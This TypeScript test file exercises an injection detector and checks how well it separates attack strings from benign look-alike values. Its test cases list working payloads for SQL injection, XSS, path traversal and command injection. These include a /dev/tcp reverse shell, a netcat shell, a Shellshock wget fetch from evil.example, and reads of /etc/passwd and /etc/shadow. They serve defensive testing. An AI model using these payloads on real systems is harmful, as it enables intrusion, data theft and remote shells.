// The injection detector (src/analysis/threats/): true positives per kind in several encodings,
// true negatives from realistic benign values, informative reasons, bounded work on pathological
// input, request value extraction, and a small run of the bench harness with floors.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { detectInjection, FRAGMENT_MAX, INJECTION_THRESHOLD, MAX_SCAN_CHARS, scanRequestValues, type InjectionKind } from '../src/analysis/threats/index.ts';
import type { Transaction } from '../src/wire/transaction.ts';
import { accuracy, allNegatives, allPositives, speed } from '../bench/injection/run.ts';

function expectKind(value: string, kind: InjectionKind, where?: Parameters<typeof detectInjection>[1]) {
  const m = detectInjection(value, where);
  assert.ok(m, `expected ${kind} in ${JSON.stringify(value)}`);
  assert.equal(m.kind, kind, `${JSON.stringify(value)}: ${JSON.stringify(m)}`);
  assert.ok(m.score >= INJECTION_THRESHOLD && m.score <= 1, `score ${m.score}`);
  assert.ok(m.reasons.length > 0 && m.reasons.every((r) => r.length > 3));
  assert.ok(m.fragment.length > 0 && m.fragment.length <= FRAGMENT_MAX);
  return m;
}
function expectClean(value: string, where?: Parameters<typeof detectInjection>[1]) {
  const m = detectInjection(value, where);
  assert.equal(m, null, `${JSON.stringify(value)} flagged: ${JSON.stringify(m)}`);
}

test('SQL injection: true positives in several encodings, with informative reasons', () => {
  const cases: [string, RegExp][] = [
    ["' OR 1=1--", /tautology|OR/],
    ["admin'--", /comment/],
    ['1 UNION ALL SELECT username, password FROM users', /UNION SELECT/],
    ['-1%20UNION%20SELECT%201%2C2%2C3--', /UNION SELECT/],
    ['-1%2520UNION%2520SELECT%25201%252C2--', /UNION SELECT/], // double URL-encoded
    ['1+UNION/**/SELECT/**/null,null--', /UNION SELECT/], // comments as whitespace
    ["1'UNION/*!50000SELECT*/ 1,2,3-- -", /UNION SELECT/], // MySQL versioned comment
    ['1; DROP TABLE users--', /DROP TABLE/],
    ["'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--", /EXEC|xp_cmdshell/i],
    ["1' AND SLEEP(5)#", /SLEEP/],
    ["1); WAITFOR DELAY '0:0:5'--", /WAITFOR DELAY/],
    ["1' AND (SELECT pg_sleep(5))--", /PG_SLEEP|subquery/],
    ['1 AND BENCHMARK(5000000,MD5(1))', /BENCHMARK/],
    ["x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--", /subquery|comparison/],
    ['&#39; OR &#39;a&#39;=&#39;a', /tautology|OR/], // HTML entities
    ["\\u0027 OR 1=1 --", /OR/], // JavaScript escape
    ['1 oR 2>1', /OR/],
    ["' or ''='", /OR|operators/],
    ['1 ORDER BY 3--', /ORDER BY/],
  ];
  for (const [v, why] of cases) {
    const m = expectKind(v, 'SQLI');
    assert.match(m.reasons.join(' | '), why, `${v}: ${m.reasons.join(' | ')}`);
  }
});

test('SQL injection: benign values that look like SQL are not flagged', () => {
  for (const v of [
    "O'Brien", "Fitzgerald-O'Hara", 'select the best option', 'drop me a line', 'update your profile', 'delete my account', 'order by price',
    'union station', '7 AND A HALF', '2 OR 4 METAL BUTTONS', 'a < b and c > d', 'x=1 and y=2', "It's 5 o'clock somewhere", "rock 'n' roll",
    'Tom and Jerry or Spike; select your country', 'sin(x) + cos(x)', "Don't drop it -- it's fragile!", 'select all', '"SWEATER DRESS" AND "CHRISTMAS"',
    '1950\'s dresses', 'Where is my order? -- 3 days late', '+1 (917) 666-0987', 'TRUE#LAST',
  ]) expectClean(v);
});

test('plain tokens (ids, slugs, versions) skip the detectors; words and comments do not', () => {
  for (const v of ['42', 'a1b2c3', '550e8400-e29b-41d4-a716-446655440000', 'spring-sale-2026', 'v1.2.3', 'file_name.json', 'select']) {
    assert.equal(detectInjection(v, { location: 'query', name: 'q' }), null, v);
  }
  assert.equal(detectInjection('1 union select password from users', { location: 'query', name: 'q' })?.kind, 'SQLI');
  assert.equal(detectInjection("1'--", { location: 'query', name: 'q' })?.kind, 'SQLI');
});

test('XSS: true positives in several encodings', () => {
  const cases: [string, RegExp][] = [
    ['<script>alert(1)</script>', /script/],
    ['%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', /script/],
    ['&lt;script&gt;alert(1)&lt;/script&gt;', /script/],
    ['\\u003cimg src=x onerror=alert(1)\\u003e', /onerror/],
    ['<img src=x onerror=alert(1)>', /event handler onerror/],
    ['<svg/onload=alert(1)>', /onload/],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', /javascript:/],
    ['<iframe src="javascript:alert(1)"></iframe>', /iframe|javascript/],
    ['javascript:alert(1)', /javascript:/],
    ['" onmouseover="alert(1)', /onmouseover/],
    ["';alert(String.fromCharCode(88,83,83))//", /alert/],
    ["{{constructor.constructor('alert(1)')()}}", /template/],
    ['<div style="width: expression(alert(1))">', /style|expression/],
    ['<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', /object|data:/],
  ];
  for (const [v, why] of cases) {
    const m = expectKind(v, 'XSS');
    assert.match(m.reasons.join(' | '), why, `${v}: ${m.reasons.join(' | ')}`);
  }
});

test('XSS: HTML-looking prose and rich text are not flagged', () => {
  for (const v of [
    'a < b and c > d', 'x<y but y>z', 'I <3 it', '<b>bold</b> and <i>italic</i>', '<a href="https://example.com/p/1" target="_blank">see</a>',
    '<p style="color: #ff0000; font-weight: bold">Sale</p>', '<img src="https://cdn.example.com/i/1.png" alt="lamp">', 'online=true', 'onload time is slow',
    'Hello {{name}}, your order {{order.id}} shipped', 'See https://example.com/search?q=a&b=c#top',
  ]) expectClean(v);
});

test('path traversal: true positives in several encodings', () => {
  for (const v of [
    '../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts', '..%252f..%252f..%252fetc%252fpasswd',
    '..%c0%af..%c0%af..%c0%afetc%c0%afpasswd', '..\\..\\..\\windows\\win.ini', '....//....//....//etc/passwd', '/etc/passwd', 'C:\\Windows\\win.ini',
    '../../../../etc/passwd%00.png', 'report.pdf%00.jpg', 'file:///etc/shadow',
  ]) {
    const m = expectKind(v, 'PATH_TRAVERSAL');
    assert.match(m.reasons.join(' '), /\.\.\/|sensitive|null byte/);
  }
});

test('path traversal: ordinary paths are not flagged', () => {
  for (const v of ['C:\\Users\\alice\\Documents\\report (final).docx', 'docs/guide/intro.md', './config.json', '../README.md', 'see ../docs/api.md for details', '/home/bob/photos/IMG_1234.jpg', 'https://example.com/a/b/c?x=1']) expectClean(v);
});

test('command injection: true positives in several encodings', () => {
  for (const v of [
    '; cat /etc/passwd', '| id', '127.0.0.1 && whoami', '$(whoami)', '`id`', 'a%0Aid', ';${IFS}cat${IFS}/etc/passwd', '%7C%20nc%20-e%20%2Fbin%2Fsh%2010.0.0.1%204444',
    '& dir c:\\', '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', '; sleep 10', '() { :; }; /bin/bash -c "wget http://evil.example/x"',
  ]) expectKind(v, 'COMMAND_INJECTION');
});

test('command injection: shell-looking prose is not flagged', () => {
  for (const v of [
    'Tom & Jerry', 'salt; pepper', 'cats | dogs', 'I ran `ls -la` in the folder and the file is there', 'Option A; option B | option C', 'black & white; echo chamber',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36', 'Q&A: type C cable',
  ]) expectClean(v);
});

test('only the first MAX_SCAN_CHARS characters are scanned, and the match says so', () => {
  const pad = 'a'.repeat(MAX_SCAN_CHARS + 10);
  assert.equal(detectInjection(pad + "' OR 1=1--"), null);
  const m = detectInjection("' OR 1=1-- " + pad);
  assert.ok(m);
  assert.match(m.reasons.join(' '), new RegExp(`first ${MAX_SCAN_CHARS}`));
});

test('pathological input: each scan of 50-100k characters of one special character finishes in under a second', () => {
  const specials = [..."'\"`<>()[]{};|&$%\\/.-#*=+!@:, \n\t"].concat(["'a", '<a ', '../', '%25', '&#', '\\u', '/*', '--', '{{', '<a onx=', 'union select ', '( select', "'or'", '<!--', '${IFS}', 'url(', '{{a', "' or '", '<a style="url(']);
  for (const c of specials) {
    for (const len of [50_000, 100_000]) {
      const v = c.repeat(Math.ceil(len / c.length)).slice(0, len);
      const t0 = performance.now();
      detectInjection(v);
      detectInjection(v, { location: 'query' });
      const ms = performance.now() - t0;
      assert.ok(ms < 1000, `${JSON.stringify(c)} x ${len}: ${ms.toFixed(0)} ms`);
    }
  }
  // and a request full of them stays bounded too
  const big = JSON.stringify({ items: Array.from({ length: 3000 }, (_, i) => ({ q: "'".repeat(50) + i, h: '<'.repeat(40) })) });
  const t0 = performance.now();
  scanRequestValues(tx({ uri: '/x', headers: [['content-type', 'application/json']], body: big }));
  assert.ok(performance.now() - t0 < 5000);
});

function tx(p: { uri: string; headers?: [string, string][]; body?: string }): Transaction {
  const bytes = p.body === undefined ? null : Buffer.from(p.body);
  return {
    id: 't1', idGenerated: false, timestamp: 0, version: '1.0',
    request: {
      method: 'POST', uri: p.uri, host: 'api.example.com', scheme: 'https', httpVersion: '1.1', clientIp: '203.0.113.9', clientIpRule: 'client-ip',
      connection: { connectionIp: '203.0.113.9', serverIp: '10.0.0.1' }, headers: p.headers ?? [], body: bytes ? { bytes, length: bytes.length, truncated: false } : null,
    },
    response: { status: 200, headers: [], body: null },
    meta: {},
  };
}

test('scanRequestValues: finds injections in path, query, headers, cookies and JSON leaves, with locations and names', () => {
  const t = tx({
    uri: "/files/..%2f..%2f..%2fetc%2fpasswd/items?id=1%27%20OR%20%271%27%3D%271&q=shoes&next=javascript:alert(1)",
    headers: [
      ['content-type', 'application/json'],
      ['accept', "text/html' OR 1=1--"], // not user input worth scanning
      ['authorization', "Bearer ' OR 1=1--"], // credentials are never scanned
      ['user-agent', '<script>alert(1)</script> () { :; }; /bin/bash -c "wget http://evil.example/x"'],
      ['x-forwarded-for', '10.0.0.1<svg onload=alert(1)>'],
      ['cookie', "session=9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c; lang=en' UNION SELECT password FROM users--"],
    ],
    body: JSON.stringify({ user: { name: "x' OR 1=1--", bio: 'I like cats & dogs', tags: ['ok', '<img src=x onerror=alert(1)>'] }, file: '../../../../etc/shadow' }),
  });
  const found = scanRequestValues(t);
  const by = (location: string, name: string) => found.find((m) => m.location === location && m.name === name);
  assert.equal(by('path', 'path[1]')?.kind, 'PATH_TRAVERSAL', JSON.stringify(found.map((m) => [m.location, m.name, m.kind])));
  assert.equal(by('query', 'id')?.kind, 'SQLI');
  assert.equal(by('query', 'next')?.kind, 'XSS');
  assert.equal(by('query', 'q'), undefined);
  assert.equal(by('header', 'user-agent')?.kind, 'COMMAND_INJECTION'); // scanned for command/SQL only
  assert.equal(by('header', 'x-forwarded-for')?.kind, 'XSS');
  assert.equal(by('header', 'accept'), undefined);
  assert.equal(by('header', 'authorization'), undefined);
  assert.equal(by('cookie', 'lang')?.kind, 'SQLI');
  assert.equal(by('cookie', 'session'), undefined);
  assert.equal(by('body', 'user.name')?.kind, 'SQLI');
  assert.equal(by('body', 'user.tags.1')?.kind, 'XSS');
  assert.equal(by('body', 'user.bio'), undefined);
  assert.equal(by('body', 'file')?.kind, 'PATH_TRAVERSAL');
  for (let i = 1; i < found.length; i++) assert.ok(found[i - 1]!.score >= found[i]!.score);
  // form bodies
  const form = scanRequestValues(tx({ uri: '/login', headers: [['content-type', 'application/x-www-form-urlencoded']], body: 'user=admin%27--&pass=x' }));
  assert.equal(form[0]?.name, 'user');
  assert.equal(form[0]?.location, 'body');
  assert.equal(form[0]?.kind, 'SQLI');
  // a clean request has nothing
  assert.deepEqual(scanRequestValues(tx({ uri: '/v1/orders/42?expand=items&sort=-date', headers: [['content-type', 'application/json'], ['user-agent', 'curl/8.4.0']], body: '{"note":"Leave it at the door; thanks!","qty":2}' })), []);
});

test('bench smoke: the harness runs on a sample and clears recall and false-positive floors', () => {
  const positives = allPositives();
  const negatives = allNegatives(3000, 7);
  const a = accuracy(positives, negatives, 5);
  assert.ok(a.recall.fixtures.total > 3000);
  assert.ok(a.recall.fixtures.rate >= 0.95, `fixture recall ${a.recall.fixtures.rate}`);
  for (const k of ['SQLI', 'XSS', 'PATH_TRAVERSAL', 'COMMAND_INJECTION']) assert.ok(a.recall.perKind[k]!.rate >= 0.9, `${k} recall ${a.recall.perKind[k]!.rate}`);
  assert.ok(a.falsePositives.fixtureFile.rate <= 0.02, `benign-false_positives.txt ${a.falsePositives.fixtureFile.rate}`);
  assert.ok(a.falsePositives.generated.rate <= 0.01, `generated ${a.falsePositives.generated.rate}`);
  const s = speed([...positives.slice(0, 300).map((p) => p.value), ...negatives.slice(0, 300).map((n) => n.value)], 1);
  assert.ok(Number.isFinite(s.costRatio) && s.costRatio > 0);
});
